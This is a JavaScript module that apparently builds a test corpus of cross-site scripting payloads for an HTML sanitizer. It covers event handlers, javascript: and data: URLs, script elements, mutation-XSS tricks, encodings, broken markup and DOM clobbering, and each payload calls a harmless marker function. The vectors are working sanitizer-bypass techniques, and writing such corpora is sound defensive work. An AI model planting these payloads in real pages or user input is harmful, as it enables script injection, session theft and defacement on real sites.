// Hostile bodies: every way of running a script that we know, in every place of a document, written in many ways. All of it is generated: what is
// hostile is a vector, where it stands is a context, how its parts are written is a disguise, and how its markup is broken is a breakage.

/** What a payload runs: `hit` of the topmost page notes that number. No quotes, spaces or brackets that markup would end at. */
const code = (number) => `top.hit(${number})`;

// ---- How something is written

const entities = (text) => [...text].map((one) => `&#${one.codePointAt(0)};`).join('');
const hexEntities = (text) => [...text].map((one) => `&#x${one.codePointAt(0).toString(16)}`).join(';').concat(';');
const percent = (text) => [...text].map((one) => `%${one.codePointAt(0).toString(16).padStart(2, '0')}`).join('');
const escapes = (text) => text.replace(/[a-z]+/, (word) => [...word].map((one) => `\\u${one.codePointAt(0).toString(16).padStart(4, '0')}`).join(''));
const padded = (text) => [...text].map((one) => `&#${String(one.codePointAt(0)).padStart(9, '0')};`).join('');
const twice = (text) => entities(text).replaceAll('&', '&amp;');
const mixedCase = (text) => [...text].map((one, place) => (place % 2 ? one.toUpperCase() : one)).join('');

/** The one way of writing code as the text of a script. */
const plain = { 'as it is': (js) => js };

/** Ways of writing the code of a handler as an attribute's value. */
const handlers = {
  'without quotes': (js) => js,
  'in double quotes': (js) => `"${js}"`,
  'in single quotes': (js) => `'${js}'`,
  'as decimal references': entities,
  'as hexadecimal references': (js) => `"${hexEntities(js)}"`,
  'with escapes of its own': escapes,
  'after white space': (js) => `"\n\t ${js}"`,
  'with references by name': (js) => js.replace('.', '&period;').replace('(', '&lpar;').replace(')', '&rpar;'),
  'with references that are padded': padded,
  'in backticks, which aren’t quotes': (js) => `\`\`,${js}`,
  'with the escapes of code points': (js) => js.replace('top', '\\u{74}\\u{0006f}p'),
  'by name of a property': (js) => js.replace('.hit', '[/hit/.source]'),
  'as text that is evaluated': (js) => `"setTimeout('${js}')"`,
  'as a constructed function': (js) => `"[].map.constructor('${js}')()"`,
  'as a label': (js) => `javascript:${js}`,
  'after a byte order mark': (js) => `"\ufeff${js}"`,
  'after a line separator': (js) => `"//\u2028${js}"`,
  'late': (js) => `"setTimeout(()=>{${js}},300)"`,
};

/** Ways of writing an address that runs code. */
const addresses = {
  plain: (js) => `javascript:${js}`,
  'in capitals': (js) => `${mixedCase('javascript')}:${js}`,
  'after white space': (js) => `" \t\njavascript:${js}"`,
  'after control characters': (js) => `"&#1;&#31;javascript:${js}"`,
  'with a tab in the scheme': (js) => `"java&Tab;script:${js}"`,
  'with a line break in the scheme': (js) => `"java&NewLine;script:${js}"`,
  'with a colon as a reference': (js) => `"javascript&colon;${js}"`,
  'as decimal references': (js) => entities(`javascript:${js}`),
  'as hexadecimal references without an end': (js) => `"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${js}"`,
  'percent-encoded code': (js) => `javascript:${percent(js)}`,
  'with a comment that looks like a host': (js) => `"javascript://press.example/%0A${js}"`,
  'as padded references': (js) => padded(`javascript:${js}`),
  'as references to references': (js) => twice(`javascript:${js}`),
  'with a null in the scheme': (js) => `"java\u0000script:${js}"`,
  'with a reference to a null': (js) => `"java&#0;script:${js}"`,
  'with a soft hyphen in the scheme': (js) => `"java&shy;script:${js}"`,
  'in full-width letters': (js) => `"ｊａｖａｓｃｒｉｐｔ：${js}"`,
  'after white space that isn’t ASCII': (js) => `"\u00a0\u3000\ufeffjavascript:${js}"`,
  'after a scheme that shows the source': (js) => `"view-source:javascript:${js}"`,
  'as data': (js) => `"data:text/html,&lt;script&gt;${js}&lt;/script&gt;"`,
  'as data in base64': (js) => `"data:text/html;base64,${btoa(`<script>${js}</script>`)}"`,
  'as data of a drawing': (js) => `"data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/&gt;"`,
  'as an old script': (js) => `"vbscript:${js}"`,
  'under the page’s own address': (js) => `"blob:javascript:${js}"`,
};

// ---- What runs: each takes a handler or an address as it is written

const byHandler = {
  'a picture that fails': (on) => `<img src=x: onerror=${on}>`,
  'a picture that loads': (on) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload=${on}>`,
  'a picture with slashes': (on) => `<img/src=x:/onerror=${on}>`,
  'an old name of a picture': (on) => `<image src=x: onerror=${on}>`,
  'a source set that fails': (on) => `<img srcset="x: 1x" onerror=${on}>`,
  'a picture that is pointed at': (on) => `<img alt=a onmouseover=${on} onpointerenter=${on}>`,
  'an SVG': (on) => `<svg onload=${on}></svg>`,
  'a picture of an SVG': (on) => `<svg><image href=x: onerror=${on} /></svg>`,
  'an animation': (on) => `<svg><animate attributeName=x dur=1s onbegin=${on}></animate></svg>`,
  'a set of an SVG': (on) => `<svg><set attributeName=x onbegin=${on}></set></svg>`,
  'a focus in an SVG': (on) => `<svg><a tabindex=0 autofocus onfocus=${on}><text>a</text></a></svg>`,
  'details that open': (on) => `<details open ontoggle=${on}><summary>a</summary>b</details>`,
  'a video': (on) => `<video src=x: onerror=${on}></video>`,
  'a video’s source': (on) => `<video><source src=x: onerror=${on}></video>`,
  'a sound': (on) => `<audio src=x: onerror=${on}></audio>`,
  'an input': (on) => `<input autofocus onfocus=${on}>`,
  'an input that is a picture': (on) => `<input type=image src=x: onerror=${on}>`,
  'a choice': (on) => `<select autofocus onfocus=${on}></select>`,
  'a text area': (on) => `<textarea autofocus onfocus=${on}></textarea>`,
  'a button': (on) => `<button autofocus onfocus=${on} onclick=${on}>a</button>`,
  'a paragraph': (on) => `<p tabindex=0 autofocus onfocus=${on} onclick=${on}>a</p>`,
  'an element of nobody’s': (on) => `<x-y tabindex=0 autofocus onfocus=${on}>a</x-y>`,
  'a link': (on) => `<a href="https://press.example/" onclick=${on} onmouseover=${on}>a</a>`,
  'a marquee': (on) => `<marquee onstart=${on}>a</marquee>`,
  'a body': (on) => `<body onload=${on} onpageshow=${on} onclick=${on}>`,
  'a frame that loads': (on) => `<iframe src="about:blank" onload=${on}></iframe>`,
  'an object': (on) => `<object data=x: onerror=${on}></object>`,
  'a style that loads': (on) => `<style onload=${on}>p{}</style>`,
  'a style that fails': (on) => `<link rel=stylesheet href=x: onerror=${on}>`,
  'an animated style': (on) => `<style>@keyframes z{}</style><b style="animation:z 1ms" onanimationstart=${on}>a</b>`,
  'a transition': (on) => `<p style="transition:all 1ms" ontransitionend=${on} onclick=${on}>a</p>`,
  'a formula': (on) => `<math><mi onclick=${on} onmouseover=${on}>x</mi></math>`,
  'a source set of rubbish': (on) => `<img srcset=", ,x: 1x,,x: 2w" sizes=1px onerror=${on}>`,
  'a source set of a picture element': (on) => `<picture><source srcset="x: 1x"><img onerror=${on}></picture>`,
  'a source set beside a picture': (on) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" srcset="x: 9x, x: 1x" onerror=${on} onload=${on}>`,
  'a source set that is loaded ahead': (on) => `<link rel=preload as=image imagesrcset="x: 1x" onerror=${on} onload=${on}>`,
  'a style that makes visible': (on) => `<div style="content-visibility:auto" oncontentvisibilityautostatechange=${on}>a</div>`,
  'an animation of the page’s own': (on) => `<b style="animation:pulse 1ms 2" onanimationend=${on} onanimationiteration=${on}>a</b>`,
  'a scroll': (on) => `<div style="overflow:auto;height:1px" onscroll=${on} onscrollend=${on}><p style="height:99px" tabindex=0 autofocus>a</p></div>`,
  'a popover': (on) => `<button popovertarget=p>a</button><p popover id=p onbeforetoggle=${on} ontoggle=${on}>b</p>`,
  'what is found': (on) => `<div hidden=until-found onbeforematch=${on}>a</div>`,
  'a dialog': (on) => `<dialog open onclose=${on} oncancel=${on} onclick=${on}><form method=dialog><button>a</button></form></dialog>`,
  'what is pasted': (on) => `<div contenteditable oncopy=${on} onclick=${on}>a</div>`,
};

const byAddress = {
  'a link': (to) => `<a href=${to}>a</a>`,
  'a link in an SVG': (to) => `<svg><a href=${to}><text x=9 y=9>a</text></a></svg>`,
  'an old link in an SVG': (to) => `<svg><a xlink:href=${to}><text x=9 y=9>a</text></a></svg>`,
  'a link in a formula': (to) => `<math><mrow href=${to}><mi>x</mi></mrow></math>`,
  'an area': (to) => `<img usemap="#m" alt=a><map name=m><area href=${to} shape=default></map>`,
  'a frame': (to) => `<iframe src=${to}></iframe>`,
  'an object': (to) => `<object data=${to}></object>`,
  'an embed': (to) => `<embed src=${to}>`,
  'a form': (to) => `<form action=${to}><button>a</button></form>`,
  'a button of a form': (to) => `<form><button formaction=${to}>a</button></form>`,
  'a base': (to) => `<base href=${to}><a href="#">a</a>`,
  'a source set': (to) => `<img srcset=${to}>`,
  'a source of a picture': (to) => `<picture><source srcset=${to}><img src=${to} alt=a></picture>`,
  'a poster': (to) => `<video poster=${to}></video>`,
  'a quotation': (to) => `<blockquote cite=${to}>a</blockquote><q cite=${to}>a</q>`,
  'a style by address': (to) => `<link rel=stylesheet href=${to}>`,
  'what a link tells': (to) => `<a href="#a" ping=${to}>a</a>`,
  'an animated address': (to) => `<svg><a><animate attributeName=href values=${to} /><text x=9 y=9>a</text></a></svg>`,
};

const byElement = {
  'a script': (js) => `<script>${js}</script>`,
  'a script in capitals': (js) => `<ScRiPt>${js}</sCrIpT>`,
  'a script with rubbish': (js) => `<script/x>${js}</script/x>`,
  'a script that isn’t closed': (js) => `<script>${js}//`,
  'a script within a script': (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  'a script by address': (js) => `<script src="data:text/javascript,${js}"></script>`,
  'a module': (js) => `<script type=module>${js}</script>`,
  'a script of an SVG': (js) => `<svg><script>${js}</script></svg>`,
  'a script of an SVG by address': (js) => `<svg><script href="data:text/javascript,${js}" /></svg>`,
  'a frame with content': (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  'a frame with references': (js) => `<iframe srcdoc="&lt;img src=x: onerror=${js}&gt;"></iframe>`,
  'a drawing that is used': (js) => `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${js}</script></svg>#x"></use></svg>`,
  'a refresh': (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  'an expression': (js) => `<p style="width:expression(${js});background:url(javascript:${js})">a</p>`,
  'an import of a style': (js) => `<style>@import 'javascript:${js}';</style>`,
  'a source set with code among others': (js) => `<img srcset="https://press.example/a.png 1x, javascript:${js} 2x,javascript:${js}, data:text/html,${js} 3x">`,
  'a source set with commas': (js) => `<img srcset=",,,javascript:${js},,"><img srcset="data:image/svg+xml,<svg onload=${js}> 1x">`,
  'a source set that ends its attribute': (js) => `<img srcset="x: 1x&quot; onerror=${js} a=&quot;" alt='" onerror=${js} '>`,
  'a binding': (js) => `<p style="-moz-binding:url('javascript:${js}');behavior:url(javascript:${js})">a</p>`,
  'a style with escapes': (js) => `<p style="width:\\65xpression(${js});w\\69 dth:exp/**/ression(${js});background:\\75rl('java\\0script:${js}')">a</p>`,
  'a style over the page': () => '<p style="position:fixed;inset:0;z-index:2147483647;background:red">a</p>',
  'a style of pictures': (js) => `<p style="background:image-set('javascript:${js}' 1x);list-style:url(javascript:${js});content:url(javascript:${js});cursor:url(javascript:${js}),auto">a</p>`,
  'a style of an SVG’s': (js) => `<svg><style>@import url(javascript:${js});*{background:url(javascript:${js})}</style><p>a</svg>`,
  'a style by data': (js) => `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${js})}"><style>@import "data:text/css,p{display:none}";</style>`,
  'a style that ends early': (js) => `<style>p::before{content:"</style><img src=x: onerror=${js}>"}</style>`,
  'a style in a comment': (js) => `<style><!-- </style><img src=x: onerror=${js}> --></style>`,
  'markup as references': (js) => `&lt;img src=x: onerror=${js}&gt;&#60;script&#62;${js}&#60;/script&#62;`,
  'markup in another encoding': (js) => `+ADw-img src=x: onerror=${js}+AD4- \u00bcscript\u00be${js}\u00bc/script\u00be ＜img src=x: onerror=${js}＞`,
  'markup in a changed encoding': (js) => `<meta charset=utf-7><meta http-equiv=content-type content="text/html;charset=iso-2022-jp">\u001b$B<img alt="\u001b(B" src=x: onerror=${js}>`,
  'markup of references in a title': (js) => `<p title="&lt;img src=x: onerror=${js}&gt;" id="&quot;&gt;&lt;img src=x: onerror=${js}&gt;">a</p>`,
  'a mutation by a table in a formula': (js) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${js}&gt;"></mglyph></table></mtext></math>`,
  'a mutation by a form': (js) => `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=${js}></style></mglyph></form></mtext></math>`,
  'a mutation by a style of an SVG': (js) => `<svg></p><style><a id="</style><img src=x: onerror=${js}>"></style></svg>`,
  'a mutation by a title': (js) => `<svg><title><style><a title="</style></title><img src=x: onerror=${js}>"></style></title></svg>`,
  'a mutation by a comment': (js) => `<svg><!--</svg><img src=x: onerror=${js}>--></svg>`,
  'a mutation by noscript': (js) => `<noscript><p title="</noscript><img src=x: onerror=${js}>"></noscript>`,
  'a mutation by raw text': (js) => `<xmp><p title="</xmp><img src=x: onerror=${js}>"></xmp>`,
  'a mutation by a template': (js) => `<template><p title="</template><img src=x: onerror=${js}>"></template>`,
  'an annotation': (js) => `<math><annotation-xml encoding="text/html"><img src=x: onerror=${js}></annotation-xml></math>`,
  'a shadow': (js) => `<div><template shadowrootmode=open><img src=x: onerror=${js}></template></div>`,
};

// ---- Where it stands

const contexts = {
  'by itself': (html) => html,
  'in a paragraph': (html) => `<p>a ${html} b</p>`,
  'in a cell': (html) => `<table><tr><td>${html}</td></tr></table>`,
  'misplaced in a table': (html) => `<table>${html}<tr><td>a</td></tr></table>`,
  'in a list': (html) => `<ul><li>a<li>${html}</ul>`,
  'in preformatted text': (html) => `<pre><code class="language-html">${html}</code></pre>`,
  'in a link': (html) => `<a href="https://press.example/">${html}</a>`,
  'in a ruby': (html) => `<ruby>漢<rt>${html}</rt></ruby>`,
  'in a figure': (html) => `<figure><figcaption>${html}</figcaption></figure>`,
  'in an SVG': (html) => `<svg>${html}</svg>`,
  'in foreign content': (html) => `<svg><foreignObject>${html}</foreignObject></svg>`,
  'in the description of an SVG': (html) => `<svg><desc>${html}</desc></svg>`,
  'in a formula’s text': (html) => `<math><mtext>${html}</mtext></math>`,
  'in a formula': (html) => `<math>${html}</math>`,
  'in noscript': (html) => `<noscript>${html}</noscript>`,
  'in a template': (html) => `<template>${html}</template>`,
  'in a choice': (html) => `<select><option>${html}</select>`,
  'in a button': (html) => `<button>${html}</button>`,
  'after a text area': (html) => `<textarea></textarea>${html}`,
  'breaking out of a text area': (html) => `<textarea><p title="</textarea>${html.replaceAll('"', '&quot;')}">`,
  'breaking out of a title': (html) => `<title><p title="</title>${html.replaceAll('"', '&quot;')}">`,
  'breaking out of a style': (html) => `<style><p title="</style>${html.replaceAll('"', '&quot;')}">`,
  'breaking out of an attribute': (html) => `<p title='a'">${html}`,
  'after a comment that ends early': (html) => `<!-->${html}-->`,
  'after a comment that ends oddly': (html) => `<!--a--!>${html}`,
  'in a declaration': (html) => `<!DOCTYPE a [${html}]>${html}`,
  'in character data': (html) => `<svg><![CDATA[<p>]]>${html}</svg>`,
  'after a null': (html) => `a\u0000<b\u0000>${html}`,
};

/** Ways of breaking the markup of something, each such that browsers find something in it all the same. */
const breakages = {
  'without an end': (html) => html.replace(/>[^<>]*(<\/[a-z-]+>)?$/i, ' '),
  'with an end that is never reached': (html) => `${html.replace(/>$/, '')} <p>a</p>`,
  'with form feeds for spaces': (html) => html.replaceAll(' ', '\f'),
  'with slashes for spaces': (html) => html.replaceAll(' ', '/'),
  'with line breaks for spaces': (html) => html.replaceAll(' ', '\r\n'),
  'with rubbish for spaces': (html) => html.replaceAll(' ', ' "\'=` '),
  'in capitals': (html) => html.replace(/<\/?[a-z]+/gi, mixedCase),
  'with handlers in capitals': (html) => html.replace(/ on[a-z]+=/gi, mixedCase),
  'with spaces about the equals sign': (html) => html.replaceAll(/( on[a-z]+)=/gi, '$1 \n= '),
  'with nulls in its names': (html) => html.replace(/<([a-z])/gi, '<$1\u0000').replace(/( on)/gi, '$1\u0000'),
  'with a null before its handlers': (html) => html.replaceAll(' on', ' \u0000on'),
  'with nulls between': (html) => `\u0000${html.replaceAll('<', '<\u0000<')}`,
  'after an attribute without a space': (html) => html.replace(/ on/g, ' a="b"on'),
  'with an attribute twice': (html) => html.replace(/ on([a-z]+)=/g, ' a a=1 ON$1='),
  'after less-than signs': (html) => `<<<${html}`,
  'after a tag that isn’t closed': (html) => `<p title=a ${html}`,
  'after a quote that isn’t closed': (html) => `<p title="a>${html}">${html}`,
  'after quotes that are closed thrice': (html) => `<p """>${html}">`,
  'after an end that has attributes': (html) => `</p title="${'>'}${html}">${html}`,
  'after an end of nothing': (html) => `</>${html}</ >`,
  'after an instruction': (html) => `<?xml version="1.0" ?>${html}<?php "?>" ${html} ?>`,
  'after a comment that isn’t one': (html) => `<!a "${html}>${html}`,
  'after a comment that is never closed': (html) => `${html}<!-- ${html}`,
  'after dashes in a comment': (html) => `<!-- --!>${html}<!-- -- >${html}-->`,
  'in misnested formatting': (html) => `<b><i><p>${html}</b>${html}</i></p>`,
  'in links in links': (html) => `<a href="#a"><p><a href="#b">${html}</p></a>${html}`,
  'in forms in forms': (html) => `<form><p><form>${html}</p></form>${html}</form>`,
  'in tables in tables': (html) => `<table><table>${html}<tr>${html}<td><table></td>${html}</table>`,
  'with the document’s elements': (html) => `</div></body></html><html><head>${html}</head><body>${html}<frameset>${html}`,
  'in deep nesting': (html) => `${'<font>'.repeat(40)}${html}${'</p>'.repeat(9)}`,
  'cut by markup': (html) => html.replace(/<([a-z])/i, '<$1<b>').concat(html),
  'of a template’s': (html) => `{{${html}}}<%${html}%>[[${html}]]`,
};

/** Names of things of the page's own, which an article must not take. */
const clobbering = ['createElement', 'body', 'location', 'cookie', 'app', 'main', 'boot', 'filter', 'offprint', 'hit'].flatMap((name) => [
  `<form id=${name}><input name=attributes><input name=parentNode></form>`,
  `<img name=${name} id=${name}>`,
  `<a id=${name}></a><a id=${name} name=url href="https://evil.example/">a</a>`,
  `<object id=${name}><param name=a></object>`,
]);

/**
 * The corpus: `{ category, html }` each, by number. `hit(number)` is what it tries to run; a body that only takes names has nothing to run.
 */
export function corpus() {
  const payloads = [];
  const add = (category, make) => payloads.push({ category, html: make(code(payloads.length)) });
  // Ways of writing take turns, so that each meets many vectors without all products being made.
  let turn = 0;
  const next = (ways, count) => Array.from({ length: count }, () => Object.values(ways)[turn++ % Object.keys(ways).length]);
  const each = (vectors, ways, count, use) => {
    for (const vector of Object.values(vectors)) for (const way of next(ways, count)) use((js) => vector(way(js)));
  };

  for (const [nth, [where, place]] of Object.entries(contexts).entries()) {
    // Each vector stands in two contexts of three.
    const some = (vectors) => Object.fromEntries(Object.entries(vectors).filter((_, at) => (at + nth) % 3 > 0));
    each(some(byHandler), handlers, 1, (make) => add(`event handlers, ${where}`, (js) => place(make(js))));
    each(some(byAddress), addresses, 1, (make) => add(`addresses, ${where}`, (js) => place(make(js))));
    each(some(byElement), plain, 1, (make) => add(`elements and mutations, ${where}`, (js) => place(make(js))));
  }
  each(byHandler, handlers, 8, (make) => add('event handlers, disguised', make));
  each(byAddress, addresses, 10, (make) => add('addresses, disguised', make));
  const broken = (count) => (make) => { for (const breakage of next(breakages, count)) add('broken markup', (js) => breakage(make(js))); };
  each(byHandler, handlers, 1, broken(10));
  each(byAddress, addresses, 1, broken(3));
  each(byElement, plain, 1, broken(3));
  for (const html of clobbering) add('names', () => html);
  return payloads;
}
